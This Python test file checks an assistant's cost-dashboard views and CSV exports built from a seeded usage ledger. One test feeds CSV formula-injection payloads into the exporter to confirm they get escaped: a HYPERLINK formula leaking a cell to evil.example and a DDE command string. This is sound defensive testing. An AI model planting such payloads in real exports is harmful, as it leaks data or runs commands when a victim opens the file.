"""Cost dashboard views: chart tables, CSV and what-if rows from a seeded ledger; the costs CSV of the CLI."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine

from assistant.usage.dashboard import Dashboard, dashboard
from assistant.usage.pricing import PriceTable
from assistant.usage.whatif import WhatIfEstimate
from assistant.views import usage as views
from tests.fixtures.db import insert_sessions, insert_usage, sqlite_file_engine
from tests.usage import seeded_ledger

DAY1 = datetime(2026, 11, 8, 10, 0, tzinfo=UTC)
DAY2 = DAY1 + timedelta(days=1)
SINCE = datetime(2026, 11, 8, tzinfo=UTC)
UNTIL = datetime(2026, 11, 10, tzinfo=UTC)
EMAILS = {"alice": "alice@example.com"}
PRICES = PriceTable.load()


@pytest.fixture
def engine(tmp_path: Path) -> Iterator[Engine]:
    for eng in sqlite_file_engine(tmp_path / "usage-views.db"):
        insert_sessions(
            eng,
            [
                dict(id="s1", user_id="alice", updated_at=DAY1, cost_usd=0.003),
                dict(id="s2", user_id="bob", updated_at=DAY2, cost_usd=0.2),
            ],
        )
        insert_usage(
            eng,
            [
                dict(session_id="s1", user_id="alice", started_at=DAY1, model_id="us.amazon.nova-lite-v1:0",
                     input_tokens=1000, output_tokens=100, cost_usd=0.003, latency_ms=800.0, ttft_ms=200.0),
                dict(session_id="s2", user_id="bob", started_at=DAY2, model_id="us.amazon.nova-pro-v1:0",
                     input_tokens=2000, output_tokens=500, cost_usd=0.2, latency_ms=1200.0, ttft_ms=400.0),
                dict(session_id="s2", user_id="bob", started_at=DAY2 + timedelta(minutes=1), model_id="offline",
                     input_tokens=10, output_tokens=5, cost_usd=0.0),
            ],
        )  # fmt: skip
        yield eng


def _dash(engine: Engine, user_id: str | None = None) -> Dashboard:
    return dashboard(engine, since=SINCE, until=UNTIL, user_id=user_id, daily_budget_usd=0.1)


def _label(model_id: str) -> str:
    return {"us.amazon.nova-lite-v1:0": "Nova Lite", "us.amazon.nova-pro-v1:0": "Nova Pro"}.get(model_id, model_id)


def test_cost_by_day_rows_and_csv(engine: Engine) -> None:
    table = views.cost_by_day_table(_dash(engine), _label)
    assert table.columns == ("day", "model", "cost_usd", "tokens", "calls", "unknown_cost_calls")
    assert table.rows == [
        ("2026-11-08", "offline", 0.0, 0, 0, 0),
        ("2026-11-08", "Nova Lite", 0.003, 1100, 1, 0),
        ("2026-11-08", "Nova Pro", 0.0, 0, 0, 0),
        ("2026-11-09", "offline", 0.0, 15, 1, 0),
        ("2026-11-09", "Nova Lite", 0.0, 0, 0, 0),
        ("2026-11-09", "Nova Pro", 0.2, 2500, 1, 0),
    ]
    parsed = list(csv.DictReader(io.StringIO(table.to_csv())))
    assert len(parsed) == 6
    assert parsed[1] == {
        "day_utc": "2026-11-08",  # a spreadsheet reader is told which day: the budget's and the charts' UTC day
        "model": "Nova Lite",
        "cost_usd": "0.003",
        "tokens": "1100",
        "calls": "1",
        "unknown_cost_calls": "0",
    }
    assert table.as_dict()["cost_usd"] == [0.0, 0.003, 0.0, 0.0, 0.0, 0.2]


def test_user_scope_only_has_that_users_rows(engine: Engine) -> None:
    d = _dash(engine, "alice")
    table = views.cost_by_day_table(d, _label)
    assert sum(r[2] for r in table.rows) == pytest.approx(0.003)
    assert views.top_users_table(d, EMAILS).rows == []
    assert {r[2] for r in views.budget_table(d, EMAILS).rows} == {"alice"}


def test_top_users_and_budget_show_emails(engine: Engine) -> None:
    d = _dash(engine)
    top = views.top_users_table(d, EMAILS)
    assert top.rows == [("bob", "bob", 0.2, 2515, 2, 0), ("alice@example.com", "alice", 0.003, 1100, 1, 0)]
    by_tokens = views.top_users_table(d, EMAILS, by_tokens=True)
    assert [r[1] for r in by_tokens.rows] == ["bob", "alice"]
    budget = views.budget_table(d, EMAILS)
    assert budget.rows == [
        ("2026-11-08", "alice@example.com", "alice", 0.003, 0.1, 3.0, False, 0),
        ("2026-11-09", "bob", "bob", 0.2, 0.1, 200.0, True, 0),
    ]


def test_budget_use_counts_a_days_calls_without_a_price(engine: Engine) -> None:
    """A day with calls on a model the price table lacks read as its priced spend alone in the
    budget CSV (no column said that some of the day's cost was unknown; the cost-per-day CSV did)."""
    insert_usage(
        engine,
        [dict(session_id="s1", user_id="alice", started_at=DAY1, model_id="claude-opus-4-7", cost_usd=None)] * 2,
    )
    budget = views.budget_table(_dash(engine, "alice"), EMAILS).as_dict()
    assert budget["spend_usd"] == [0.003] and budget["unknown_cost_calls"] == [2], budget


def test_latency_and_session_cost_tables(engine: Engine) -> None:
    d = _dash(engine)
    lat = views.latency_table(d)
    assert ("2026-11-08", "Answer time p50", 800.0) in lat.rows
    assert ("2026-11-08", "First token p95", 200.0) in lat.rows
    assert ("2026-11-09", "Answer time p50", 1200.0) in lat.rows  # the offline call has no latency
    dist = views.session_cost_table(d)
    counts = {label: n for label, n, *_ in dist.rows}
    assert counts["$0.001–0.01"] == 1
    assert counts["$0.10–0.50"] == 1
    assert sum(counts.values()) == 2


def test_metrics_and_all_free(engine: Engine) -> None:
    d = _dash(engine)
    metrics = {m.label: m.value for m in views.dashboard_metrics(d, all_free=False)}
    assert metrics["Total cost"] == "$0.203"
    assert metrics["Model calls"] == "3"
    assert metrics["Tokens"] == "3.6k"
    # the ledger keeps a deleted session's calls (they were billed): the total says so, since
    # the sessions table's total, without them, reads less
    helps = {m.label: m.help for m in views.dashboard_metrics(d, all_free=False)}
    assert "sessions deleted since included" in str(helps["Total cost"])
    assert not views.all_free(d, lambda m: m == "offline")
    assert views.all_free(d, lambda m: True)
    empty = dashboard(engine, since=UNTIL, until=UNTIL + timedelta(days=1), user_id=None)
    assert not views.all_free(empty, lambda m: True)
    assert not views.cost_by_day_table(empty)


def test_bucket_labels() -> None:
    assert views.bucket_label(0.0, 0.001) == "under $0.001"
    assert views.bucket_label(0.01, 0.05) == "$0.01–0.05"
    assert views.bucket_label(1.0, 5.0) == "$1–5"
    assert views.bucket_label(5.0, None) == "$5 and more"


def test_what_if_view() -> None:
    estimates = [WhatIfEstimate("Amazon Nova Lite", 0.0123), WhatIfEstimate("Claude Sonnet 4.5", 1.5)]
    shown = views.what_if_view(estimates, 0.5, 0)
    assert shown.actual_text == "$0.50"
    assert shown.table.rows == [("Amazon Nova Lite", 0.0123, -0.4877), ("Claude Sonnet 4.5", 1.5, 1.0)]
    assert shown.sentences[0] == "This period on Amazon Nova Lite would have cost $0.0123."
    partial = views.what_if_view(estimates, 0.5, 2)
    assert partial.actual_text == "≥ $0.50"
    assert partial.table.rows[0][2] is None
    assert views.what_if_view(estimates, 0.0, 3).actual_text == "unknown"
    assert views.what_if_view(estimates, 0.0, 0).actual_text == "$0.00"


def test_csv_never_hands_a_spreadsheet_a_formula() -> None:
    # A display name or model label chosen by someone else must not run when an admin
    # opens the downloaded CSV in Excel or Sheets; numbers (also negative) stay numbers.
    table = views.ChartTable(
        ("user", "note", "difference_usd", "text_number"),
        [
            ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", -0.25, "-12.5"),
            ("@SUM(A1:A9)", "\tcell", 0.5, None),
            ("Alice", "plain", 1, "3"),
        ],
    )
    rows = list(csv.reader(io.StringIO(table.to_csv())))
    assert rows[1] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'+cmd|' /C calc'!A0", "-0.25", "-12.5"]
    assert rows[2] == ["'@SUM(A1:A9)", "'\tcell", "0.5", ""]
    assert rows[3] == ["Alice", "plain", "1", "3"]


def test_top_users_and_budget_show_people_on_one_line_without_control_characters(engine: Engine) -> None:
    d = _dash(engine)
    emails = {"alice": "alice\x07@example.com\n<b>x</b>"}
    assert views.top_users_table(d, emails).rows[1][0] == "alice@example.com <b>x</b>"
    assert views.budget_table(d, emails).rows[0][1] == "alice@example.com <b>x</b>"


def test_costs_csv(query_engine: Engine) -> None:
    ledger = seeded_ledger.seed(query_engine)
    out = io.StringIO()
    text = views.costs_csv(ledger, since=date(2026, 11, 1), until=seeded_ledger.D4, out=out)
    assert out.getvalue() == text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0].keys()) == views.CSV_COLUMNS
    assert views.CSV_COLUMNS[0] == "day_utc"
    assert len(rows) == 5
    by_key = {(r["day_utc"], r["user_id"], r["model_id"]): r for r in rows}
    assert by_key[("2026-11-01", "alice", seeded_ledger.LITE)]["cost_usd"] == "0.30000000"
    assert by_key[("2026-11-01", "alice", seeded_ledger.LITE)]["calls"] == "2"
    assert by_key[("2026-11-02", "alice", seeded_ledger.UNKNOWN)]["cost_usd"] == ""
    assert by_key[("2026-11-02", "alice", seeded_ledger.UNKNOWN)]["unknown_cost_calls"] == "1"
    assert sum(float(r["cost_usd"] or 0) for r in rows) == pytest.approx(1.8)
    only_bob = list(
        csv.DictReader(
            io.StringIO(views.costs_csv(ledger, since=seeded_ledger.D1, until=seeded_ledger.D4, user_id="bob"))
        )
    )
    assert {r["user_id"] for r in only_bob} == {"bob"}


def test_costs_csv_keeps_a_tiny_priced_cost_and_adds_up_to_the_dashboard(query_engine: Engine) -> None:
    # Ten input tokens on Nova Micro cost $0.00000035: the CLI wrote "0.000000", the same as the
    # free offline model, and its rows summed to less than the dashboard's total.
    day = datetime(2026, 11, 1, tzinfo=UTC)
    micro = "us.amazon.nova-micro-v1:0"
    insert_usage(
        query_engine,
        [
            dict(provider="bedrock", session_id="s1", user_id="dana", model_id=micro, started_at=day, input_tokens=10,
                 cost_usd=0.00000035),
            dict(session_id="s1", user_id="dana", started_at=day + timedelta(hours=1), input_tokens=10),
        ],
    )  # fmt: skip
    rows = {r["model_id"]: r for r in csv.DictReader(io.StringIO(views.costs_csv(query_engine, since=day.date())))}
    assert rows[micro]["cost_usd"] != rows["offline"]["cost_usd"]
    total = dashboard(query_engine, since=day, until=day + timedelta(days=1), user_id="dana").totals.cost_usd
    assert sum(float(r["cost_usd"]) for r in rows.values()) == pytest.approx(total, rel=1e-9, abs=0)
